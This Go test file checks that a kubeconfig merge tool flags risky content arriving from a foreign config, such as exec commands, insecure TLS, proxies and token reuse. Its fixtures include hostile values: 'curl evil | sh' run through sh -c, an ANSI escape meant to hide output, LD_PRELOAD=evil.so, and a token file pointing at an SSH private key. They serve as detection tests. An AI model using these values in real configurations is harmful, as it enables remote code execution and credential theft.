package kubeconfig_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/kubectl-certs/kubectl-certs/pkg/kubeconfig"
)

// What a kubeconfig from elsewhere brings along is found in what a merge adds or
// replaces, and in nothing else.
func TestTaken(t *testing.T) {
	const own = "clusters:\n- name: prod\n  cluster: {server: https://prod}\nusers:\n- name: me\n  user: {token: mine}\n- name: sso\n  user: {exec: {command: sso}}\ncontexts:\n- name: prod\n  context: {cluster: prod, user: me}\n"
	theirs := func(cluster, user string) string { return single(cluster, user) }
	const plain = "server: https://c"
	for name, tt := range map[string]struct {
		text    string
		resolve kubeconfig.Resolution
		want    []kubeconfig.TakenCode
		says    string
	}{
		"harmless":                  {theirs(plain, "token: t"), "", nil, ""},
		"a program":                 {theirs(plain, `exec: {command: sh, args: [-c, "curl evil | sh"], env: [{name: A, value: b}]}`), "", []kubeconfig.TakenCode{kubeconfig.TakenExec}, "sh -c <hidden, 14 characters>"},
		"a program that has none":   {theirs(plain, `exec: {apiVersion: v1}`), "", []kubeconfig.TakenCode{kubeconfig.TakenExec}, ""},
		"a provider":                {theirs(plain, `auth-provider: {name: oidc, config: {idp-issuer-url: "https://u:p@idp"}}`), "", []kubeconfig.TakenCode{kubeconfig.TakenAuthProvider}, "https://xxxxx@idp"},
		"a proxy":                   {theirs(plain+`, proxy-url: "http://u:p@proxy"`, ""), "", []kubeconfig.TakenCode{kubeconfig.TakenProxy}, "http://xxxxx@proxy"},
		"no verification":           {theirs(plain+", insecure-skip-tls-verify: true", ""), "", []kubeconfig.TakenCode{kubeconfig.TakenInsecure}, "https://c"},
		"verification":              {theirs(plain+", insecure-skip-tls-verify: false", ""), "", nil, ""},
		"another name":              {theirs(plain+", tls-server-name: x", ""), "", []kubeconfig.TakenCode{kubeconfig.TakenServerName}, `"x"`},
		"a file":                    {theirs(plain, "tokenFile: /home/me/.ssh/id_ed25519"), "", []kubeconfig.TakenCode{kubeconfig.TakenTokenFile}, "/home/me/.ssh/id_ed25519"},
		"plain http":                {theirs("server: http://c", ""), "", []kubeconfig.TakenCode{kubeconfig.TakenHTTP}, "http://c"},
		"no scheme":                 {theirs("server: 'c:80'", ""), "", []kubeconfig.TakenCode{kubeconfig.TakenHTTP}, "c:80"},
		"my token, to a new server": {strings.NewReplacer("user: u", "user: me", "- name: u\n  user: {}\n", "").Replace(theirs(plain, "")), "", []kubeconfig.TakenCode{kubeconfig.TakenOwnUser}, `your own user "me" to https://c`},
		"a program guessed":         {strings.NewReplacer("user: u", "user: sso", "name: u", "name: sso").Replace(theirs(plain, "exec: {command: sso}")), "", []kubeconfig.TakenCode{kubeconfig.TakenOwnUser}, `"sso"`},
		"a token that they know":    {strings.NewReplacer("user: u", "user: me", "name: u", "name: me").Replace(theirs(plain, "token: mine")), "", nil, ""},
		"my token, by keeping it":   {strings.NewReplacer("user: u", "user: me", "name: u", "name: me").Replace(theirs(plain, "token: theirs")), kubeconfig.Keep, []kubeconfig.TakenCode{kubeconfig.TakenOwnUser}, `"me"`},
		"replaced":                  {strings.NewReplacer("user: u", "user: me", "name: u", "name: me").Replace(theirs(plain, "exec: {command: x}")), kubeconfig.Replace, []kubeconfig.TakenCode{kubeconfig.TakenExec}, ""},
		"renamed":                   {strings.NewReplacer("user: u", "user: me", "name: u", "name: me").Replace(theirs(plain, "exec: {command: x}")), kubeconfig.Rename, []kubeconfig.TakenCode{kubeconfig.TakenExec}, ""},
		"what is here already":      {"users:\n- name: sso\n  user: {exec: {command: sso}}\n", "", nil, ""},
	} {
		t.Run(name, func(t *testing.T) {
			c := kubeconfig.NewConfig(parse(t, "config", own))
			in := parse(t, "in", tt.text)
			changes, err := c.Merge(in, kubeconfig.Always(tt.resolve))
			if err != nil {
				t.Fatal(err)
			}
			var codes []kubeconfig.TakenCode
			text := ""
			for _, taken := range c.Taken(in, changes) {
				codes = append(codes, taken.Code)
				text += taken.Text + "\n"
			}
			if !slices.Equal(codes, tt.want) || !strings.Contains(text, tt.says) || strings.Contains(text, "u:p") {
				t.Errorf("got %q, want %q that say %q:\n%s", codes, tt.want, tt.says, text)
			}
		})
	}
}

// A person sees in full what would run.
func TestTakenShowsAllThatRuns(t *testing.T) {
	d := parse(t, "/x/in", single("server: https://c", `exec: {command: ./login, args: [-c, "curl evil | sh\u001b[2J"], env: [{name: LD_PRELOAD, value: evil.so}]}`))
	all := d.AllTaken()
	want := []string{`command: "/x/login"`, `arg:     "-c"`, `arg:     "curl evil | sh\x1b[2J"`, `env:     "LD_PRELOAD=evil.so"`}
	if len(all) != 1 || !slices.Equal(all[0].Details, want) {
		t.Errorf("got %+v", all)
	}
}
